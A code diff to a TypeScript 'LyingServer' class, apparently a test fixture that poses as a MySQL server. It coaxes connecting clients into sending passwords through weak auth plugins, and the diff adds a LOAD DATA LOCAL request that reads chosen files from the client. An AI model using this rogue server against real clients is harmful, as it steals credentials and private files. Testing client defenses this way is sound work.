@@ -2,11 +2,21 @@ import { constants, generateKeyPairSync, privateDecrypt } from 'node:crypto';
 import { type AddressInfo, createServer, type Server, type Socket } from 'node:net';
 
 /** The rounds of a plugin that may end with the password being sent. */
-export type PasswordPlugin = 'caching_sha2_password' | 'sha256_password' | 'mysql_clear_password';
+export type PasswordPlugin =
+  | 'caching_sha2_password'
+  | 'sha256_password'
+  | 'mysql_clear_password'
+  | 'mysql_old_password'
+  | 'dialog';
+/** Takes any password, and answers the first statement by asking for this file of the client (`LOAD DATA LOCAL`). */
+export interface FileRequest {
+  readonly file: string;
+}
 
 const SCRAMBLE = Buffer.from('0123456789abcdefghij');
-/** CLIENT_PROTOCOL_41, SECURE_CONNECTION, PLUGIN_AUTH and CONNECT_WITH_DB. */
-const CAPABILITIES = 0x0008_820a;
+/** CLIENT_PROTOCOL_41, SECURE_CONNECTION, PLUGIN_AUTH, CONNECT_WITH_DB and LOCAL_FILES. */
+const CAPABILITIES = 0x0008_828a;
+const OK = Buffer.from([0, 0, 0, 2, 0, 0, 0]);
 
 /** Pretends to be a MySQL server, to learn the password of whoever connects to it. */
 export class LyingServer {
@@ -17,7 +27,7 @@ export class LyingServer {
   readonly #server: Server;
   readonly #sockets = new Set<Socket>();
 
-  private constructor(plugin: PasswordPlugin) {
+  private constructor(lie: PasswordPlugin | FileRequest) {
     const { publicKey, privateKey } = generateKeyPairSync('rsa', {
       modulusLength: 2048,
       publicKeyEncoding: { type: 'spki', format: 'pem' },
@@ -25,11 +35,11 @@ export class LyingServer {
     });
     this.publicKey = publicKey;
     this.#privateKey = privateKey;
-    this.#server = createServer((socket) => this.#talk(socket, plugin));
+    this.#server = createServer((socket) => this.#talk(socket, lie));
   }
 
-  static async start(plugin: PasswordPlugin): Promise<LyingServer> {
-    const server = new LyingServer(plugin);
+  static async start(lie: PasswordPlugin | FileRequest): Promise<LyingServer> {
+    const server = new LyingServer(lie);
     await new Promise<void>((resolve) => server.#server.listen(0, '0.0.0.0', resolve));
     return server;
   }
@@ -60,7 +70,8 @@ export class LyingServer {
     await new Promise((resolve) => this.#server.close(resolve));
   }
 
-  #talk(socket: Socket, plugin: PasswordPlugin): void {
+  #talk(socket: Socket, lie: PasswordPlugin | FileRequest): void {
+    const plugin = typeof lie === 'string' ? lie : 'mysql_native_password';
     this.#sockets.add(socket);
     socket.on('error', () => {});
     let sequence = 0;
@@ -68,7 +79,6 @@ export class LyingServer {
       const header = Buffer.from([payload.length & 0xff, payload.length >> 8, 0, sequence++]);
       socket.write(Buffer.concat([header, payload]));
     };
-    const word = (text: string) => Buffer.from(`${text}\0`);
     const capabilities = Buffer.alloc(4);
     capabilities.writeUInt32LE(CAPABILITIES);
     send(
@@ -78,13 +88,7 @@ export class LyingServer {
         ...[Buffer.from([21]), Buffer.alloc(10), SCRAMBLE.subarray(8), Buffer.alloc(1), word(plugin)],
       ]),
     );
-    const questions = [
-      // Another plugin, which the client has not begun with.
-      Buffer.concat([Buffer.from([0xfe]), word(plugin), SCRAMBLE, Buffer.alloc(1)]),
-      // "I do not know this password yet: send all of it."
-      ...(plugin === 'caching_sha2_password' ? [Buffer.from([1, 4])] : []),
-      Buffer.concat([Buffer.from([1]), Buffer.from(this.publicKey)]),
-    ];
+    const questions = this.#questions(lie);
     let rest = Buffer.alloc(0);
     let rounds = 0;
     socket.on('data', (bytes) => {
@@ -101,4 +105,19 @@ export class LyingServer {
       }
     });
   }
+
+  #questions(lie: PasswordPlugin | FileRequest): Buffer[] {
+    if (typeof lie !== 'string') return [OK, Buffer.concat([Buffer.from([0xfb]), Buffer.from(lie.file)])];
+    return [
+      // Another plugin, which the client has not begun with.
+      Buffer.concat([Buffer.from([0xfe]), word(lie), SCRAMBLE, Buffer.alloc(1)]),
+      // "I do not know this password yet: send all of it."
+      ...(lie === 'caching_sha2_password' ? [Buffer.from([1, 4])] : []),
+      Buffer.concat([Buffer.from([1]), Buffer.from(this.publicKey)]),
+    ];
+  }
+}
+
+function word(text: string): Buffer {
+  return Buffer.from(`${text}\0`);
 }
